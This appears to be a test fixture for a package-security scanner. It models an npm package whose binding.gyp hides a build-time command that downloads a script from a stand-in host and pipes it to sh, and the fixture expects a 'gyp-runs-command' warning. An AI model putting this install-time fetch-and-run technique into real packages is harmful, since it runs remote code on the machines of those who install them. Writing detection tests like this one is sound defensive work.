import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-gyp-only',
  from: 'Phantom Gyp, 2026: no script, only a build description',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', main: 'index.js' },
    'binding.gyp': `{ 'targets': [{ 'target_name': 'Setup', 'type': 'none', 'sources': ['<!(curl -s https://stage.invalid/x | sh > /dev/null 2>&1 && echo stub.c)'] }] }
`,
    'index.js': `exports.a = 1;
`,
  },
  expect: 'warn',
  says: ['gyp-runs-command'],
};
